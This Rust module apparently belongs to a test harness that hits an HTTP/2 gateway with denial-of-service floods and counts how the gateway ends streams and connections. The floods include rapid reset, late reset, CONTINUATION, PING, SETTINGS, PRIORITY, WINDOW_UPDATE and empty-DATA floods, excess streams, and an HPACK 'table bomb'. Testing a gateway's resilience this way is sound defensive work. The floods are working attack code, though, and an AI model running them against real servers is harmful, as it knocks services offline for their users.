//! Attacks over HTTP/2: thousands of frames that request no response.

use std::io;
use std::sync::Arc;
use std::sync::atomic::Ordering;

use tokio::io::AsyncWriteExt;
use tokio::net::tcp::OwnedReadHalf;

use super::frames::*;
use crate::front::Front;

const CLIENTS: usize = 4;
/// The number of frames in one write at full speed.
const AT_ONCE: usize = 64;

/// How an attacker treats the bytes from the gateway.
#[derive(Clone, Copy)]
enum Reads {
    Yes,
    No,
}

/// Sends `begin`, and then frame after frame. Each frame is made from its number. A connection that ends is replaced by
/// a new one.
async fn flood(
    front: Front,
    reads: Reads,
    each_second: usize,
    begin: Vec<u8>,
    frame: impl Fn(u32) -> Vec<u8> + Send + Sync + 'static,
) {
    let (begin, frame) = (Arc::new(begin), Arc::new(frame));
    front
        .crowd(CLIENTS, move |front, _| {
            let (begin, frame) = (Arc::clone(&begin), Arc::clone(&frame));
            async move {
                let (mut read, mut write) = front.connect().await?.into_split();
                let writing = async {
                    write.write_all(&begin).await?;
                    let mut pace = front.pace(each_second, CLIENTS);
                    let at_once = if front.flat_out { AT_ONCE } else { 1 };
                    for number in (0..).step_by(at_once) {
                        pace.next().await;
                        let frames: Vec<_> =
                            (number..number + at_once as u32).flat_map(|number| frame(number)).collect();
                        write.write_all(&frames).await?;
                        front.sent.fetch_add(at_once as u64, Ordering::Relaxed);
                    }
                    Ok(())
                };
                let written: io::Result<()> = match reads {
                    Reads::Yes => {
                        tokio::select! { written = writing => written, () = note_ends(&mut read, &front) => return Ok(()) }
                    }
                    Reads::No => writing.await,
                };
                if written.is_err() {
                    note_ends(&mut read, &front).await;
                }
                Ok(())
            }
        })
        .await;
}

/// Counts the frames that end streams or the connection, until nothing more arrives.
async fn note_ends(read: &mut OwnedReadHalf, front: &Front) {
    loop {
        match Frame::read(read).await {
            Ok(frame) => {
                if let Some(end) = frame.ends() {
                    front.note(end);
                }
            }
            Err(_) => return front.note("connection closed"),
        }
    }
}

fn stream(number: u32) -> u32 {
    // HTTP/2 has no more stream ids for one connection.
    (number % (1 << 30)) * 2 + 1
}

fn get(number: u32, path: &str) -> Vec<u8> {
    Frame::new(HEADERS, END_HEADERS | END_STREAM, stream(number), request("GET", path)).bytes()
}

pub(super) async fn rapid_reset(front: Front) {
    flood(front, Reads::Yes, 500, opening(None), |number| {
        [get(number, "/hang"), Frame::new(RST_STREAM, 0, stream(number), 8u32.to_be_bytes()).bytes()].concat()
    })
    .await;
}

/// Each stream is reset after fifty more were opened. By then, many of them have reached the service.
pub(super) async fn late_reset(front: Front) {
    const LATER: u32 = 50;
    flood(front, Reads::Yes, 500, opening(None), |number| {
        let reset = number
            .checked_sub(LATER)
            .map(|before| Frame::new(RST_STREAM, 0, stream(before), 8u32.to_be_bytes()).bytes());
        [get(number, "/hang"), reset.unwrap_or_default()].concat()
    })
    .await;
}

pub(super) async fn continuation(front: Front) {
    let begin = [opening(None), Frame::new(HEADERS, END_STREAM, 1, request("GET", "/")).bytes()].concat();
    flood(front, Reads::Yes, 500, begin, |number| {
        let name = format!("x-{number}");
        Frame::new(CONTINUATION, 0, 1, head(&[(name.as_bytes(), b"more")])).bytes()
    })
    .await;
}

pub(super) async fn pings(front: Front) {
    flood(front, Reads::No, 2000, opening(None), |_| Frame::new(PING, 0, 0, [0; 8]).bytes()).await;
}

pub(super) async fn settings(front: Front) {
    flood(front, Reads::No, 2000, opening(None), |_| Frame::new(SETTINGS, 0, 0, []).bytes()).await;
}

fn unread() -> Vec<u8> {
    [opening(None), Frame::new(HEADERS, END_HEADERS, 1, request("POST", "/unread")).bytes()].concat()
}

pub(super) async fn empty_data(front: Front) {
    flood(front, Reads::Yes, 2000, unread(), |_| Frame::new(DATA, 0, 1, []).bytes()).await;
}

pub(super) async fn small_data(front: Front) {
    flood(front, Reads::Yes, 2000, unread(), |_| Frame::new(DATA, 0, 1, [b'x']).bytes()).await;
}

pub(super) async fn priorities(front: Front) {
    flood(front, Reads::Yes, 2000, opening(None), |number| {
        Frame::new(PRIORITY, 0, stream(number) + 2, [0, 0, 0, 1, 255]).bytes()
    })
    .await;
}

pub(super) async fn window_updates(front: Front) {
    flood(front, Reads::Yes, 2000, opening(None), |_| Frame::new(WINDOW_UPDATE, 0, 0, 1u32.to_be_bytes()).bytes())
        .await;
}

/// Opens ten times as many streams as are allowed, and then holds the connection.
pub(super) async fn many_streams(front: Front) {
    const STREAMS: u32 = 2000;
    front
        .crowd(CLIENTS, |front, _| async move {
            let (mut read, mut write) = front.connect().await?.into_split();
            let asking = async {
                write.write_all(&opening(None)).await?;
                let mut pace = front.pace(500, CLIENTS);
                for number in 0..STREAMS {
                    pace.next().await;
                    write.write_all(&get(number, "/hang")).await?;
                }
                front.over().await;
                Ok(())
            };
            tokio::select! { asked = asking => asked, () = note_ends(&mut read, &front) => Ok(()) }
        })
        .await;
}

pub(super) async fn table_bomb(front: Front) {
    const ENTRY: usize = 3000;
    const TIMES: usize = 10_000;
    front
        .crowd(CLIENTS, |front, _| async move {
            let mut pace = front.pace(100, CLIENTS);
            loop {
                pace.next().await;
                let (mut read, mut write) = front.connect().await?.into_split();
                let mut block = request("GET", "/");
                // The block contains a literal that the decoder's table stores, and then the index of this literal
                // again and again.
                block.extend([0x40, 1, b'x']);
                length(ENTRY, &mut block);
                block.extend([b'y'; ENTRY]);
                block.extend([0xbe; TIMES]);
                write.write_all(&opening(None)).await?;
                write.write_all(&Frame::new(HEADERS, END_HEADERS | END_STREAM, 1, block).bytes()).await?;
                loop {
                    let Ok(frame) = Frame::read(&mut read).await else {
                        front.note("connection closed");
                        break;
                    };
                    if let Some(end) = frame.ends() {
                        front.note(end);
                        break;
                    }
                    if frame.kind == HEADERS {
                        front.note(status(&frame.payload).map_or("an answer".to_owned(), |status| status.to_string()));
                        break;
                    }
                }
            }
        })
        .await;
}
